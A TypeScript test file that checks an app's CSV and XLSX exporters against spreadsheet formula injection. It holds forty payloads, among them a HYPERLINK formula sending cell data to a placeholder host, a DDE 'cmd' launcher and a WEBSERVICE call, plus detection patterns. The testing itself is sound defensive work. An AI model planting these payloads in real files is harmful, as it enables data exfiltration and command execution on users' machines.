/** T28: whatever somebody typed, no cell of a file that leaves us is a formula or a link, and the words come back as they were. */
import { execFile } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { unguardCell } from '../../src/imports/csv-guard.ts';
import { writeOfficeSheet } from '../../src/imports/write-office-sheet.ts';
import { writeCsv, writeXlsx } from '../../src/imports/write-spreadsheet.ts';
import { readParts } from '../reports/read-docx.ts';
import { FULL } from '../support/fault-size.ts';

const CALL = `HYPERLINK("http://127.0.0.1:1/?"&A1,"点这里")`;
/** Forty ways to begin a formula. */
const PAYLOADS: readonly string[] = [
  ...['=', '+', '-', '@'].flatMap((sign) => [
    `${sign}1+1`,
    `${sign}${CALL}`,
    ` ${sign}1+1`,
    `\u00a0${sign}1+1`,
    `\u200b${sign}1+1`,
    `\ufeff${sign}1+1`,
    `\u3000${sign}1+1`,
  ]),
  ...['＝1+1', '＋1+1', '－1+1', '＠SUM(A1)'],
  ...['\t=1+1', '\r=1+1', '\n=1+1', '\u0000=1+1'],
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("http://127.0.0.1:1/")',
  'a\n=1+1',
  "'=1+1",
];

const PLACES = ['first column', 'later column', 'behind a line break', 'header'] as const;

function tableWith(payload: string, place: (typeof PLACES)[number]): string[][] {
  if (place === 'header')
    return [
      [payload, '甲'],
      ['1', '2'],
    ];
  const row = { 'first column': [payload, '乙'], 'later column': ['乙', payload] }[place as 'first column'];
  return [['甲', '乙'], row ?? [`第一行\n${payload}`, '乙']];
}

/** A CSV as a spreadsheet takes it apart. */
function cellsOf(csv: string): string[] {
  const cells: string[] = [];
  for (const [, quoted, bare] of csv
    .replace(/^\ufeff/u, '')
    .matchAll(/(?:"((?:[^"]|"")*)"|([^,\r\n"]*))(?:,|\r\n)/gu)) {
    cells.push(quoted === undefined ? (bare ?? '') : quoted.replaceAll('""', '"'));
  }
  return cells;
}

/** A cell, or a line in one, that some program would run; blanks and signs that nobody sees do not save it. */
const RUNS = /^[\s\0\p{Default_Ignorable_Code_Point}]*[=+\-@＝＋－＠]/u;

test('there are forty', () => {
  expect(new Set(PAYLOADS).size).toBe(40);
});

describe.each(PLACES)('%s', (place) => {
  test('CSV: every cell begins with an apostrophe or harmlessly, and is read back as it was', () => {
    for (const payload of PAYLOADS) {
      const table = tableWith(payload, place);
      const cells = cellsOf(writeCsv(table).toString('utf8'));
      expect(
        cells.filter((cell) => RUNS.test(cell)),
        JSON.stringify(payload),
      ).toEqual([]);
      expect(cells.map(unguardCell), JSON.stringify(payload)).toEqual(table.flat());
    }
  });

  test('XLSX, plain and in the office’s format: no formula, no link, nothing from outside', async () => {
    const frame = { title: '=1+1', issuer: '+1', day: '@1', signature: '-1' };
    for (const payload of PAYLOADS) {
      const table = tableWith(payload, place);
      for (const bytes of [await writeXlsx(table), await writeOfficeSheet(table, frame)]) {
        const parts = [...readParts(bytes)];
        expect(parts.filter(([, xml]) => /<f[ >]|<hyperlink|TargetMode="External"|<ddeLink/u.test(xml))).toEqual([]);
      }
    }
  });
});

describe.runIf(FULL)('opened by LibreOffice', () => {
  let folder: string;
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'assistant-sheets-'));
  });
  afterAll(async () => await rm(folder, { recursive: true }));

  test.each([
    ['csv', async (rows: string[][]) => writeCsv(rows)],
    ['xlsx', async (rows: string[][]) => await writeXlsx(rows)],
  ] as const)('%s: no formula cell, no link', { timeout: 180_000 }, async (kind, write) => {
    const rows = [['甲', '乙'], ...PAYLOADS.map((payload) => [payload, payload])];
    await writeFile(join(folder, `台账.${kind}`), await write(rows));
    const profile = `-env:UserInstallation=file://${folder}/profile`;
    const run = ['--headless', profile, '--convert-to', 'fods', '--outdir', join(folder, kind)];
    await promisify(execFile)('soffice', [...run, join(folder, `台账.${kind}`)]);
    const opened = await readFile(join(folder, kind, '台账.fods'), 'utf8');
    expect(opened).toContain('SUM(A1)');
    expect(opened).not.toMatch(/table:formula=|<text:a |xlink:href="http/u);
  });
});
